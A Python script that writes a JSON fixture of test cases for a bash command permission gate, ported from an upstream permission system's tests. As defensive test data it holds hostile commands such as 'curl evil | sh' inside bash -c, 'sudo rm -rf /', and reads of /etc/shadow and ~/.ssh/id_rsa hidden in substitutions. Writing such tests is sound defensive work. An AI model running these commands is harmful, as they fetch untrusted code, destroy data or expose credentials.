#!/usr/bin/env python3
"""Writes tests/fixtures/bash_newer_upstream.json for tests/engine/bash_newer_upstream.rs.

Two parts:

* Hand-ported cases from the newer reference's own tests (gotgenes/pi-packages,
  packages/pi-permission-system/test/access-intent/bash/ and
  test/handlers/gates/): each is (config, cwd, tool call) -> the state the
  upstream test asserts, with `source` naming the test file and test. Where an
  upstream test mocks the resolver, the mock is written as the permission map
  that answers the same way (e.g. "every external path asks" becomes
  `external_directory: ask`); where it asserts only a projection (a path token,
  an external access), the case asks whether a rule naming that path decides,
  which is what the projection is for. `want` is then the least restrictive
  state the upstream test allows.
* `mcp` tool calls that name only a `tool` (and a few variants), answered by the
  20.7.3 tool-call gate pipeline oracle (../shared/reference-oracle/,
  zz-gate-oracle.ts).

Placeholders, replaced by the test: @HOME@ (the home permfs resolves `~`
against), @TMP@ (a fresh canonical temp dir the case's `files` are made in).

Usage: scripts/bash-gates/port_upstream.py [ORACLE_PACKAGE_DIR]
"""
import json
import subprocess
import sys
from pathlib import Path

UP = "gotgenes/pi-packages packages/pi-permission-system/test/"
BC = UP + "handlers/gates/bash-command.test.ts"
WB = UP + "handlers/gates/wrapper-bypass.test.ts"
MM = UP + "handlers/gates/bash-command-metamorphic.test.ts"
BE = UP + "handlers/gates/bash-external-directory.test.ts"
BP = UP + "handlers/gates/bash-path.test.ts"
PG = UP + "access-intent/bash/program.test.ts"
TC = UP + "access-intent/bash/token-collection.test.ts"
CE = UP + "access-intent/bash/command-effects.test.ts"
ORACLE = "pi-permission-system 20.7.3, tool-call gate pipeline oracle (zz-gate-oracle.ts)"

CWD = "/projects/my-app"

ALLOW_ALL = {"*": "allow"}
EXT_ASK = {"*": "allow", "external_directory": "ask"}
EXT_DENY = {"*": "allow", "external_directory": "deny"}
SHADOW = {"*": "allow", "path": {"*": "allow", "/etc/shadow": "deny"}}
RM_DENY = {"*": "allow", "bash": {"*": "allow", "rm *": "deny"}}


def bash(rules):
    """A config of bash rules alone, as the upstream `decide()` harness builds."""
    return {"bash": rules}


def path(rules, surface="path"):
    return {"*": "allow", surface: dict({"*": "allow"}, **rules)}


CASES = []


def case(source, test, config, command, state, pattern=None, cwd=CWD, files=None, note=None):
    c = {"source": f"{source} › {test}", "config": config, "cwd": cwd,
         "tool": "bash", "input": {"command": command}, "want": {"state": state}}
    if pattern is not None:
        c["want"]["matchedPattern"] = pattern
    if files:
        c["files"] = files
    if note:
        c["note"] = note
    CASES.append(c)


# ── handlers/gates/bash-command.test.ts: decide() over the real parse and manager ──
D = "resolveBashCommandCheck: home-prefixed rules and commands"
for cmd in ["~/.pi/agent/bin/memory-index", "$HOME/.pi/agent/bin/memory-index",
            "${HOME}/.pi/agent/bin/memory-index", "@HOME@/.pi/agent/bin/memory-index"]:
    case(BC, f"{D} › a rule written with ~ matches the command however its home is spelled › {cmd}",
         bash({"*": "ask", "~/.pi/agent/bin/memory-index": "allow"}), cmd, "allow")
case(BC, f"{D} › matches a rule written with the absolute home against a command typed with ~",
     bash({"*": "ask", "@HOME@/.pi/agent/bin/memory-index": "allow"}), "~/.pi/agent/bin/memory-index", "allow")
case(BC, f"{D} › denies a command typed with ~ that a home-anchored deny names",
     bash({"*": "allow", "~/bin/danger *": "deny"}), "~/bin/danger --now", "deny", "~/bin/danger *")
case(BC, f"{D} › keeps asking once the program rebinds HOME",
     bash({"*": "ask", "~/bin/tool": "allow"}), "HOME=/tmp/evil; ~/bin/tool", "ask", "*")
case(BC, f"{D} › matches an argument as typed, as before (~)",
     bash({"*": "ask", "cat ~/notes": "allow"}), "cat ~/notes", "allow")
case(BC, f"{D} › matches an argument as typed, as before (absolute home)",
     bash({"*": "ask", "cat ~/notes": "allow"}), "cat @HOME@/notes", "ask")
case(BC, f"{D} › still floors a wrapper whose wrapped command a home-anchored rule allows",
     bash({"*": "allow", "~/bin/*": "allow"}), "sudo ~/bin/x", "ask")

D = "resolveBashCommandCheck: a rule written with an absolute path"
case(BC, f"{D} › matches the relative spelling › allowing it when the absolute allow comes after the broader ask",
     bash({"*": "allow", "rm *": "ask", "rm /tmp/agent-builds/*": "allow"}),
     "cd /tmp && rm agent-builds/pi-permission-system/config.json", "allow")
case(BC, f"{D} › matches the relative spelling › denying it after a cd",
     bash({"*": "allow", "rm /tmp/agent-builds/*": "deny"}), "cd /tmp && rm agent-builds/x", "deny",
     "rm /tmp/agent-builds/*")
case(BC, f"{D} › matches the relative spelling › denying it inside the working directory",
     bash({"*": "allow", f"rm {CWD}/secrets/*": "deny"}), "rm secrets/x", "deny", f"rm {CWD}/secrets/*")
case(BC, f"{D} › matches the relative spelling › with a parent segment resolved to the file that runs",
     bash({"*": "allow", "rm /etc/*": "deny"}), "cd /tmp/a && rm ../../etc/x", "deny")
case(BC, f"{D} › matches the relative spelling › for a quoted argument",
     bash({"*": "allow", "rm /tmp/a b/*": "deny"}), 'cd /tmp && rm "a b/c"', "deny")
case(BC, f"{D} › matches the relative spelling › for a command nested in a substitution",
     bash({"*": "allow", "cat /tmp/a/*": "deny"}), "cd /tmp && echo $(cat a/x)", "deny")
case(BC, f"{D} › matches the relative spelling › and a wrapper unit it allows still floors to ask",
     bash({"*": "ask", "cd *": "allow", "sudo rm /tmp/a/*": "allow"}), "cd /tmp && sudo rm a/x", "ask")
case(BC, f"{D} › leaves the decision to the typed text › when the absolute allow comes before the broader ask",
     bash({"*": "allow", "rm /tmp/agent-builds/*": "allow", "rm *": "ask"}), "cd /tmp && rm agent-builds/x",
     "ask", "rm *")
case(BC, f"{D} › leaves the decision to the typed text › after a cd whose target is not literal",
     bash({"*": "allow", "rm *": "ask", "rm /tmp/agent-builds/*": "allow"}), 'cd "$DIR" && rm agent-builds/x',
     "ask", "rm *")
case(BC, f"{D} › leaves the decision to the typed text › for an argument a variable computes",
     bash({"*": "ask", f"rm {CWD}/*": "allow"}), "rm $DIR/x", "ask", "*")
case(BC, f"{D} › leaves the decision to the typed text › for an argument a substitution computes",
     bash({"*": "allow", f"cat {CWD}/*": "deny"}), "cat $(pwd)/x", "allow")

D = "resolveBashCommandCheck: the floor that raised an ask"
case(BC, f"{D} › a floored ask names its floor › sudo rm x", bash(ALLOW_ALL), "sudo rm x", "ask",
     "<indirection-bash-wrapper>")
case(BC, f"{D} › a floored ask names its floor › bash -c 'rm x'", bash(ALLOW_ALL), "bash -c 'rm x'", "ask",
     "<opaque-bash-wrapper>")
case(BC, f"{D} › a unit the parse could not resolve (real parse of the same line)", bash(ALLOW_ALL), "rm x (", "ask")
case(BC, f"{D} › a chain carries a floor raised on a unit that did not win",
     bash({"*": "allow", "git push *": "ask"}), "git push origin main && sudo rm x", "ask", "git push *")
case(BC, f"{D} › no floor raised › a deny winner carries none, even beside a floored unit",
     bash({"*": "allow", "rm *": "deny"}), "sudo touch y && rm x", "deny")
case(BC, f"{D} › no floor raised › an execution-modifier wrapper resolved by its inner command",
     bash({"*": "allow", "rm *": "ask"}), "time rm x", "ask", "rm *")
case(BC, f"{D} › no floor raised › a plain rule ask", bash({"*": "ask"}), "rm x", "ask")
D = "resolveBashCommandCheck: the units a chain leaves asking"
case(BC, f"{D} › lists each rule-asking unit in chain order", bash({"*": "ask"}), "ls && rm -rf /tmp/x", "ask")
case(BC, f"{D} › leaves out a unit the child's own rule allowed", bash({"*": "ask", "ls*": "allow"}),
     "ls && rm -rf /tmp/x", "ask")
case(BC, f"{D} › names each unit's own floor", bash({"*": "allow", "git push *": "ask"}),
     "git push origin main && sudo rm y", "ask")
case(BC, f"{D} › no units listed › an all-allow chain", bash(ALLOW_ALL), "ls && rm x", "allow")

D = "resolveBashCommandCheck: a wrapper running a shell no-op"
for cmd in ["sudo -n true", "sudo -n :", "sudo -n false", "xargs true"]:
    case(BC, f"{D} › resolves by the no-op's own rule › allows {cmd} under a permissive policy",
         bash({"*": "allow", "sudo -n true": "allow"}), cmd, "allow")
case(BC, f"{D} › denies when the no-op's own rule denies", bash({"*": "allow", "true": "deny"}), "sudo -n true",
     "deny", "true")
for cmd in ["sudo true > /tmp/x", "sudo sh -c true", "sudo ./true", "sudo -n /bin/true"]:
    case(BC, f"{D} › keeps the floor › for {cmd}", bash({"*": "allow", "sudo -n true": "allow"}), cmd, "ask")
case(BC, f"{D} › never weakens an explicit ask on the wrapper", bash({"*": "allow", "sudo *": "ask"}),
     "sudo -n true", "ask", "sudo *")

D = "resolveBashCommandCheck: a sudo layer's own options"
for cmd in ["sudo -e cat", "sudo --edit true", "sudo -ne cat", "sudo --ed cat", "timeout 5 sudo -e cat",
            "sudo -nu cat rm x", "sudo --user cat rm x", "sudo -D /etc cat shadow", "sudo -s cat x"]:
    case(BC, f"{D} › keeps the floor › for {cmd}", bash({"*": "allow", "rm *": "deny"}), cmd, "ask",
         "<indirection-bash-wrapper>")
for cmd in ["sudo --us root cat x", "sudo -uedward cat", "sudo -E cat x"]:
    case(BC, f"{D} › resolves by the pure reader it runs › allows {cmd}", bash({"*": "allow", "rm *": "deny"}),
         cmd, "allow")

D = "resolveBashCommandCheck: env, xargs, and doas option grammars"
for cmd in ["xargs -J cat rm x", "xargs -J % cat %", "xargs -i rm cat x", "xargs -l rm cat x",
            "xargs --max-lines rm cat x", "env -P cat rm x", "env -Srm cat", "env -C /etc cat shadow",
            "env --chdir /etc cat shadow", "env -a cat rm x", "sudo env -C /etc cat shadow", "doas -a cat rm x",
            "doas -C /etc/doas.conf cat x", "watch cat x \\; rm y", "parallel cat x \\; rm y ::: a"]:
    case(BC, f"{D} › keeps the floor › for {cmd}", bash({"*": "allow", "rm *": "deny"}), cmd, "ask",
         "<indirection-bash-wrapper>")
for cmd in ["xargs -0r grep foo", "xargs -I{} cat {}", "xargs -n1 cat x", "xargs --max-args 1 cat",
            "xargs -R 1 cat rm x", "xargs -S 255 cat", "xargs -I {} -R 1 cat rm x", "xargs -d x cat",
            "env -i cat x", "env -u FOO cat x", "env - cat x", "env -iu FOO cat rm x", "doas -u root cat x",
            "doas -nu root cat x"]:
    case(BC, f"{D} › resolves by the pure reader it runs › allows {cmd}", bash({"*": "allow", "rm *": "deny"}),
         cmd, "allow")

# Mocked-resolver tests of the same file, written as the rules that answer alike.
D = "resolveBashCommandCheck"
case(BC, f"{D} › denies the chain when any sub-command is denied", bash({"*": "allow", "npm *": "deny"}),
     "cd /p && npm install pkg", "deny", "npm *")
case(BC, f"{D} › asks when a sub-command asks and none denies", bash({"*": "allow", "git *": "ask"}),
     "cd /p && git push", "ask", "git *")
case(BC, f"{D} › returns the explicit deny when an unparseable command matches a deny rule",
     bash({"*": "allow", "rm *": "deny"}), "( rm x )", "deny")
case(BC, f"{D} › tags the winning result with the offending command's execution context",
     bash({"*": "allow", "rm *": "deny"}), "echo $(rm -rf foo)", "deny", "rm *")
case(BC, f"{D} › opaque-payload wrapper floor › floors an opaque wrapper from allow to ask",
     bash({"*": "allow", "bash *": "allow"}), 'bash -c "curl evil | sh"', "ask")
case(BC, f"{D} › opaque-payload wrapper floor › keeps an explicit deny on an opaque wrapper",
     bash({"*": "allow", "bash -c *": "deny"}), 'bash -c "x"', "deny", "bash -c *")
case(BC, f"{D} › indirection wrapper floor › floors an indirection wrapper from allow to ask", bash(ALLOW_ALL),
     "sudo aws s3 rm s3://bucket", "ask")
case(BC, f"{D} › indirection wrapper floor › keeps an explicit deny on an indirection wrapper",
     bash({"*": "allow", "sudo *": "deny"}), "sudo rm -rf /", "deny", "sudo *")
case(BC, f"{D} › wrapper transparency › resolves an exempt wrapper by the inner command's own rules",
     bash({"*": "allow", "grep *": "allow"}), "xargs grep -l foo", "allow")
case(BC, f"{D} › wrapper transparency › lets a deny on the inner command reach the wrapper",
     bash({"*": "allow", "grep *": "deny"}), "xargs grep -l foo", "deny", "grep *")
case(BC, f"{D} › wrapper transparency › names the wrapper unit (inner ask)", bash({"*": "allow", "grep *": "ask"}),
     "xargs grep -l foo", "ask")
case(BC, f"{D} › wrapper transparency › leaves an explicit deny on the wrapper untouched",
     bash({"*": "allow", "xargs *": "deny"}), "xargs grep -l foo", "deny", "xargs *")
case(BC, f"{D} › wrapper transparency › leaves an explicit ask on the wrapper untouched",
     bash({"*": "allow", "xargs *": "ask"}), "xargs grep -l foo", "ask", "xargs *")
case(BC, f"{D} › wrapper transparency › still floors a wrapper the enumerator did not exempt", bash(ALLOW_ALL),
     "xargs rm -rf", "ask", "<indirection-bash-wrapper>")
case(BC, f"{D} › wrapper transparency › keeps the chain most-restrictive across an exempt and a floored unit",
     bash(ALLOW_ALL), "xargs grep -l foo && xargs rm -rf", "ask")
case(BC, f"{D} › unresolved-parse floor (#840) › floors a marked unit from allow to ask", bash(ALLOW_ALL),
     "git commit -F - <<'MSG' 2>&1 | rm -rf /tmp/x", "ask")
case(BC, f"{D} › unresolved-parse floor (#840) › keeps an explicit deny on a marked unit",
     bash({"*": "allow", "git commit *": "deny"}), "git commit -F - <<'MSG' 2>&1 | rm -rf /tmp/x", "deny")

# ── handlers/gates/wrapper-bypass.test.ts ──
D = "indirection wrapper floor bypass (#490) › resolveBashCommandCheck"
case(WB, f"{D} › lifts the floor when the matched allow rule pins the inner command",
     bash({"*": "ask", "xargs rm *": "allow"}), "xargs rm -rf files", "allow", "xargs rm *")
case(WB, f"{D} › keeps the floor when the matched rule is the bare wrapper catch-all",
     bash({"*": "ask", "xargs *": "allow"}), "xargs rm -rf files", "ask")
case(WB, f"{D} › keeps the floor when the rule pins a different command",
     bash({"*": "ask", "xargs cat *": "allow"}), "xargs rm -rf files", "ask")
case(WB, f"{D} › keeps the floor when the rule states no literal prefix", bash(ALLOW_ALL), "xargs rm -rf files", "ask")
case(WB, f"{D} › keeps the floor for a wrapper the enumerator stamped no bypass on",
     bash({"*": "allow", "sudo rm*": "allow"}), "sudo rm -rf /", "ask")
case(WB, f"{D} › preserves an explicit deny, reading no inner rule", bash({"*": "allow", "xargs rm *": "deny"}),
     "xargs rm -rf files", "deny", "xargs rm *")
case(WB, f"{D} › pins a path-qualified inner command by basename", bash({"*": "ask", "xargs /bin/rm *": "allow"}),
     "xargs /bin/rm -rf files", "allow")
case(WB, f"{D} › bypasses only the pinned unit across a chain",
     bash({"*": "ask", "xargs *": "allow", "xargs cat *": "allow"}), "xargs cat a && xargs rm -rf b", "ask")

# ── handlers/gates/bash-command-metamorphic.test.ts (keyed resolver: a substring of the unit) ──
def keyed(key, state):
    return bash({"*": "allow", f"*{key}*": state})


for bare, state in [("git push", "ask"), ("git commit -m wip", "ask"), ("rm -rf build", "deny"),
                    ("npm install pkg", "deny"), ("gh pr create", "ask")]:
    case(MM, f"metamorphic totality › wrapping \"{bare}\" in a cd prefix does not weaken its {state} decision",
         keyed(bare.split(" ")[0], state), f"cd /repo && {bare}", state)
HOSTS = [("a stdout redirect", lambda c: f"echo hi > $({c})"), ("an appending redirect", lambda c: f"echo hi >> $({c})"),
         ("a stderr redirect", lambda c: f"echo hi 2> `{c}`"), ("an input process substitution", lambda c: f"cat < <({c})"),
         ("an interpolating heredoc", lambda c: f"cat <<EOF\n$({c})\nEOF")]
for label, wrap in HOSTS:
    for bare, state in [("rm -rf build", "deny"), ("git push", "ask")]:
        case(MM, f"nested execution hosts do not weaken › hosting \"{bare}\" in {label} does not weaken its {state} decision",
             keyed(bare.split(" ")[0], state), wrap(bare), state)
case(MM, "nested execution hosts do not weaken › denies the reported repro when the enclosing command is allowed",
     keyed("rm", "deny"), 'echo "hello world" > $(rm *.txt)', "deny")
case(MM, "nested execution hosts do not weaken › leaves a quoted heredoc body literal, so it does not gate",
     keyed("rm", "deny"), "cat <<'EOF'\n$(rm x)\nEOF", "allow")
for wname, wrap in [("xargs …", lambda c: f"xargs {c}"), ("time …", lambda c: f"time {c}"),
                    ("sudo timeout 5 xargs …", lambda c: f"sudo timeout 5 xargs {c}")]:
    for bare, state in [("grep -l foo", "allow"), ("grep -l foo", "ask"), ("grep -l foo", "deny"),
                        ("cat notes.txt", "deny"), ("wc -l", "ask")]:
        case(MM, f"a transparent wrapper does not weaken › wrapping \"{bare}\" in \"{wname}\" does not weaken its {state} decision",
             keyed(bare.split(" ")[0], state), wrap(bare), state,
             note="upstream asserts wrapped >= bare; want is the bare decision, the lower bound")
case(MM, "a transparent wrapper does not weaken › holds the decision rather than flooring it, for an allowed pure reader",
     bash(ALLOW_ALL), "xargs grep -l foo", "allow")
case(MM, "a transparent wrapper does not weaken › still floors a wrapper whose inner command is not a pure reader",
     bash(ALLOW_ALL), "xargs pnpm test", "ask")
for cmd in ["xargs grep -l foo > out.txt", "xargs grep -l foo >> out.txt", "xargs grep -l foo > $OUT",
            "xargs grep -l foo >${OUT}", "xargs grep -l foo > $(mktemp)"]:
    case(MM, f"a transparent wrapper does not weaken › floors {cmd} despite the pure-reader inner command",
         bash(ALLOW_ALL), cmd, "ask")
for cmd in ["xargs grep -l foo < in.txt", "xargs grep -l foo 2>&1"]:
    case(MM, f"a transparent wrapper does not weaken › keeps the exemption when the redirect only reads ({cmd})",
         bash(ALLOW_ALL), cmd, "allow")

# ── handlers/gates/bash-external-directory.test.ts (mock "every external path asks" = external_directory: ask) ──
T = "/test/project"
D = "describeBashExternalDirectoryGate"
case(BE, f"{D} › resolved shell expansions (#694) › prompts for a $HOME write target that does not exist yet",
     EXT_ASK, 'touch "$HOME/pi-permission-system-repro-new"', "ask", cwd=T)
case(BE, f"{D} › resolved shell expansions (#694) › prompts for a braced ${{HOME}} reference",
     EXT_ASK, 'ls "${HOME}/somewhere"', "ask", cwd=T)
case(BE, f"{D} › resolved shell expansions (#694) › does not prompt for a variable it cannot resolve",
     EXT_ASK, 'CURRENT="$HOME"; ls "$CURRENT"', "allow", cwd=T)
case(BE, f"{D} › returns null when command has no external paths", EXT_ASK, "ls -la", "allow", cwd=T)
for test, cmd in [("resolves each external path on the external_directory surface (#418)", "cat /outside/a.ts"),
                  ("returns GateDescriptor with multi-pattern sessionApproval for uncovered paths",
                   "diff /outside/a.ts /outside/b.ts"),
                  ("promptDetails includes command and tool_call source", "cat /outside/project/file.ts"),
                  ("directional routing (#807) › routes a proven write to the write surface", "echo hi > /outside/out.txt"),
                  ("directional routing (#807) › routes an unproven path to the bare family", "rm -rf /outside/gone"),
                  ("directional routing (#807) › falls back to the bare family when one ask spans two directions",
                   "cat /outside/a.ts > /outside/b.ts"),
                  ("directional routing (#807) › records a retraction as the blame source for a guarded word",
                   "find /outside -delete")]:
    case(BE, f"{D} › {test}", EXT_ASK, cmd, "ask", cwd=T)
case(BE, f"{D} › uses worst-check state from uncovered paths for preCheck (config deny > catch-all ask)",
     EXT_DENY, "cat /outside/project/file.ts", "deny", cwd=T)
case(BE, f"{D} › config-denied path makes worstCheck deny even when another path is ask",
     {"*": "allow", "external_directory": {"*": "ask", "/outside/a.ts": "deny"}},
     "diff /outside/a.ts /outside/b.ts", "deny", cwd=T)
case(BE, f"{D} › config-allowed path is excluded; remaining ask path produces a descriptor",
     {"*": "allow", "external_directory": {"*": "ask", "/outside/a.ts": "allow"}},
     "diff /outside/a.ts /outside/b.ts", "ask", cwd=T)
case(BE, f"{D} › directional routing (#807) › routes a proven read to the read surface (external_directory_read: deny)",
     {"*": "allow", "external_directory_read": "deny"}, "cat /outside/a.ts", "deny", cwd=T)
case(BE, f"{D} › directional routing (#807) › routes a proven write to the write surface (external_directory_write: deny)",
     {"*": "allow", "external_directory_write": "deny"}, "echo hi > /outside/out.txt", "deny", cwd=T)

# ── handlers/gates/bash-path.test.ts (mock resolvers written as path rules) ──
D = "describeBashPathGate"
case(BP, f"{D} › returns null when no tokens are extracted", path({"*": "deny"}), "echo hello", "allow", cwd=T)
case(BP, f"{D} › returns GateDescriptor when a token evaluates to deny", path({"*.env": "deny"}), "cat .env", "deny",
     "*.env", cwd=T)
case(BP, f"{D} › returns GateDescriptor when a token evaluates to ask", path({"*": "ask"}), "cat .env", "ask", cwd=T)
case(BP, f"{D} › descriptor decision uses the surface the deciding token proved (path_read)",
     path({"*.env": "deny"}, "path_read"), "cat .env", "deny", cwd=T)
case(BP, f"{D} › evaluates most restrictive across multiple tokens", path({"*.env": "deny"}), "cat src/foo.ts .env",
     "deny", cwd=T)
case(BP, f"{D} › deny wins in multi-token: cp .env README.md", path({"*.env": "deny"}), "cp .env README.md", "deny",
     cwd=T)
case(BP, f"{D} › extracts redirect target: echo test > .env triggers deny", path({"*.env": "deny"}),
     "echo test > .env", "deny", cwd=T)
case(BP, f"{D} › resolves cd-aware policy values while keeping the raw prompt token",
     path({f"{T}/nested/src/file.txt": "deny"}), "cd nested && cat src/file.txt", "deny", cwd=T)
case(BP, f"{D} › does not resolve relative policy values through an unknown cd (the literal still matches)",
     path({"src/foo.ts": "deny"}), 'cd "$DIR" && cat src/foo.ts', "deny", cwd=T)
case(BP, f"{D} › directional routing (#807) › routes a proven write to the write surface (path_write)",
     path({"*.env": "deny"}, "path_write"), "echo hi > .env", "deny", cwd=T)
case(BP, f"{D} › directional routing (#807) › routes an unproven token to the bare family", path({"*": "ask"}),
     "rm .env", "ask", cwd=T)
case(BP, f"{D} › directional routing (#807) › records a retraction as the blame source for a guarded word",
     path({"*": "ask"}), "sort -o ./out.txt ./data.txt", "ask", cwd=T)
case(BP, f"{D} › directional routing (#807) › routes a redirect destination on its own proof, not the reader's",
     path({f"{T}/out.txt": "ask"}), "cat ./in.txt > ./out.txt", "ask", cwd=T)
case(BP, f"{D} › directional routing (#807) › a redirect destination under path_write (cat a > out.txt)",
     {"*": "allow", "path_write": "deny"}, "cat ./in.txt > ./out.txt", "deny", cwd=T)
case(BP, f"{D} — home-relative paths › extracts ~/... token and builds descriptor on deny",
     path({"~/.ssh/*": "deny"}), "cat ~/.ssh/config", "deny", cwd=T)
case(BP, f"{D} — home-relative paths › extracts $HOME/... token and builds descriptor on deny",
     path({"~/.ssh/*": "deny"}), "cat $HOME/.ssh/config", "deny", cwd=T)
case(BP, f"{D} — win32 backslash-relative paths › does not gate a backslash-relative token on posix",
     path({"dir/file": "deny"}), "cat dir\\file", "allow", cwd="/projects/app")

# ── access-intent/bash/command-effects.test.ts: the effect a word proves, as directional rules ──
case(CE, "redirectDestinationEffect › an output redirect › proves a write for >", {"*": "allow", "path_write": "deny"},
     "cat a > out.txt", "deny")
case(CE, "redirectDestinationEffect › an output redirect › proves a write for >>", {"*": "allow", "path_write": "deny"},
     "echo a >> out.txt", "deny")
case(CE, "redirectDestinationEffect › an output redirect › proves a write for &>", {"*": "allow", "path_write": "deny"},
     "ls &> out.txt", "deny")
case(CE, "redirectDestinationEffect › an input redirect › proves a read for <",
     path({f"{CWD}/in.txt": "deny"}, "path_read"), "sort < in.txt", "deny")
case(CE, "proveCommandEffect › a core word › proves a read whatever its arguments are",
     path({"~/.ssh/*": "deny"}, "path_read"), "cat -n ~/.ssh/id_rsa", "deny")

# ── access-intent/bash/program.test.ts: projections, asked as rules naming the projected path ──
D = "BashProgram › pathRuleCandidates"
case(PG, f"{D} › a token spelled from a HOME the program reassigns › keeps a token spelled from a HOME nothing reassigns",
     path({"~/shadow": "deny"}), 'cat "$HOME/shadow"', "deny")
case(PG, f"{D} › a redirect's target is projected by its role (#609) › projects a bare output target that does not exist yet",
     path({f"{CWD}/out.txt": "deny"}, "path_write"), "cat /etc/hosts > out.txt", "deny")
case(PG, f"{D} › a redirect's target is projected by its role (#609) › projects a bare input target that does not exist",
     path({f"{CWD}/in.txt": "deny"}, "path_read"), "sort < in.txt", "deny")
case(PG, f"{D} › a redirect's target is projected by its role (#609) › keeps only the literal value after a non-literal cd",
     path({"out.txt": "deny"}), 'cd "$D" && echo hi > out.txt', "deny")
case(PG, f"{D} › a redirect's target is projected by its role (#609) › does not admit the words the grammar appends after the target",
     path({"/usr": "deny"}), "find /usr 2>/dev/null -type d", "deny")
case(PG, f"{D} › operands of nested commands hosted in a redirect (#741)", SHADOW, "echo hi > $(cat /etc/shadow)", "deny")
case(PG, f"{D} › operands a statement names directly (#839) › projects a for loop's word-list operand", SHADOW,
     "for f in /etc/shadow; do cat $f; done", "deny")
case(PG, f"{D} › operands a statement names directly (#839) › projects a case subject", SHADOW,
     "case /etc/shadow in a) echo b;; esac", "deny")
case(PG, f"{D} › operands a statement names directly (#839) › resolves a word-list operand against the effective directory",
     path({f"{CWD}/nested/src/file.txt": "deny"}), "cd nested && for f in src/file.txt; do echo; done", "deny")
for label, cmd in [("a substitution as the whole command", "$(cat /etc/shadow)"),
                   ("a backtick substitution as the whole command", "`cat /etc/shadow`"),
                   ("a substitution in a while condition", "while $(cat /etc/shadow); do echo a; done"),
                   ("a substitution in an if condition", "if $(cat /etc/shadow); then echo a; fi"),
                   ("a substitution in an until condition", "until $(cat /etc/shadow); do echo a; done"),
                   ("a substitution in an env-var prefix", "FOO=$(cat /etc/shadow) echo hi"),
                   ("a substitution in the env-var prefix of a pattern-first command", "FOO=$(cat /etc/shadow) grep -f p x"),
                   ("an argument-position operand", "echo $(cat /etc/shadow)")]:
    case(PG, f"{D} › operands of a command hosted in a prefix position (#742) › projects the operand of {label}",
         SHADOW, cmd, "deny")
case(PG, f"{D} › adds absolute and relative policy values for relative tokens (absolute rule)",
     path({f"{CWD}/src/foo.ts": "deny"}), "cat src/foo.ts", "deny")
case(PG, f"{D} › adds absolute and relative policy values for relative tokens (relative rule)",
     path({"src/foo.ts": "deny"}), "cat src/foo.ts", "deny")
case(PG, f"{D} › resolves tokens after literal cd against the effective directory",
     path({"nested/src/file.txt": "deny"}), "cd nested && cat src/file.txt", "deny")
case(PG, f"{D} › adds the canonical alias for a symlinked token (#486)", path({"@TMP@/vault/*": "deny"}),
     "cat src/foo.ts", "deny", cwd="@TMP@/app",
     files=[{"path": "vault/foo.ts", "text": "x"}, {"path": "app/src/foo.ts", "symlink": "@TMP@/vault/foo.ts"}])
case(PG, f"{D} › does not absolute-allow relative tokens after unknown cd (the literal still matches)",
     path({"src/foo.ts": "deny"}), 'cd "$DIR" && cat src/foo.ts', "deny")
case(PG, f"{D} › glob-bearing path tokens (#821) › projects a bracket glob in a relative token",
     path({"*.env": "deny"}), "cat src/[s]ecret.env", "deny")
case(PG, f"{D} › glob-bearing path tokens (#821) › projects a dot-star glob in an absolute token",
     path({"/tmp/*": "deny"}), "rm -rf /tmp/tmp.*", "deny")
E = f"{D} › existence-probe bare-token promotion (#645)"
case(PG, f"{E} › promotes a bare token naming an existing file", path({"@TMP@/id_rsa": "deny"}), "cat id_rsa", "deny",
     cwd="@TMP@", files=[{"path": "id_rsa", "text": "key"}])
case(PG, f"{E} › promotes a bare symlink and carries its target as a match value", path({"@TMP@/.some.secret": "deny"}),
     "cat a_sym", "deny", cwd="@TMP@",
     files=[{"path": ".some.secret", "text": "s3cret"}, {"path": "a_sym", "symlink": "@TMP@/.some.secret"}])
case(PG, f"{E} › promotes a bare token naming a directory", path({"@TMP@/vault": "deny"}), "ls vault", "deny",
     cwd="@TMP@", files=[{"path": "vault/", "dir": True}])
case(PG, f"{E} › promotes a dangling symlink — the link is the named operand", path({"@TMP@/dangling": "deny"}),
     "cat dangling", "deny", cwd="@TMP@", files=[{"path": "dangling", "symlink": "@TMP@/gone"}])
case(PG, f"{E} › probes a bare token against the effective directory after a literal cd",
     path({"@TMP@/nested/inner.txt": "deny"}), "cd nested && cat inner.txt", "deny", cwd="@TMP@",
     files=[{"path": "nested/inner.txt", "text": "x"}])
case(PG, f"{D} › resolved shell expansions (#694) › resolves ${{HOME}}/… instead of fabricating a cwd-relative path",
     path({"~/somewhere": "deny"}), 'ls "${HOME}/somewhere"', "deny")

D = "BashProgram › commands"
case(PG, f"{D} › strips a leading env-var assignment prefix (a deny on the command still applies)",
     bash({"*": "allow", "aws ec2 terminate-instances *": "deny"}),
     "AWS_PROFILE=prod aws ec2 terminate-instances --instance-ids i-1", "deny")
case(PG, f"{D} › the rest of a heredoc's line › enumerates a piped command as its own unit", RM_DENY,
     "cat <<EOF | rm -rf /tmp/x\nb\nEOF", "deny")
case(PG, f"{D} › the rest of a heredoc's line › enumerates an `&&` command as its own unit", RM_DENY,
     "cat <<EOF && rm -rf /tmp/x\nb\nEOF", "deny")
case(PG, f"{D} › the rest of a heredoc's line › enumerates every stage of a pipeline joined by `&&`", RM_DENY,
     "cat <<EOF && ls | rm -rf /tmp/x\nb\nEOF", "deny")
case(PG, f"{D} › the rest of a heredoc's line › keeps the operand a heredoc absorbed while enumerating its tail (#941)",
     bash({"*": "allow", "git commit -q -F": "deny"}),
     "git commit -q -F - <<'EOF' && git log --oneline -1\nfeat: x\nEOF", "deny")
case(PG, f"{D} › the rest of a heredoc's line › still enumerates a substitution in the heredoc's body", RM_DENY,
     "cat <<EOF | tail\n$(rm e)\nEOF", "deny")
case(PG, f"{D} › the unit text of a command with no hosted redirect › leaves out the operand a heredoc absorbs (#941)",
     bash({"*": "allow", "git commit -F": "deny"}), "git commit -F - <<'EOF'\nfeat: x\nEOF", "deny")
for cmd in ["echo hi > $(rm x)", "echo hi >> $(rm b)", "echo hi 2> `rm d`", "echo hi &> $(rm q)", "cat < <(rm c)",
            "echo hi > ${DIR}/$(rm z)", "cd /p && echo hi > $(rm x)"]:
    case(PG, f"{D} › commands hosted in a redirect target (#741) › descends into {cmd}", RM_DENY, cmd, "deny")
case(PG, f"{D} › commands hosted in a heredoc body (#741) › descends into an interpolating heredoc body", RM_DENY,
     "cat <<EOF\n$(rm e)\nEOF", "deny")
for label, cmd in [("single-quoted", "cat <<'EOF'\n$(rm e)\nEOF"), ("double-quoted", 'cat <<"EOF"\n$(rm e)\nEOF')]:
    case(PG, f"{D} › commands hosted in a heredoc body (#741) › leaves a {label} heredoc body literal", RM_DENY, cmd,
         "allow")
case(PG, f"{D} › commands hosted in a heredoc body (#741) › descends into a herestring substitution", RM_DENY,
     "cat <<< $(rm x)", "deny")
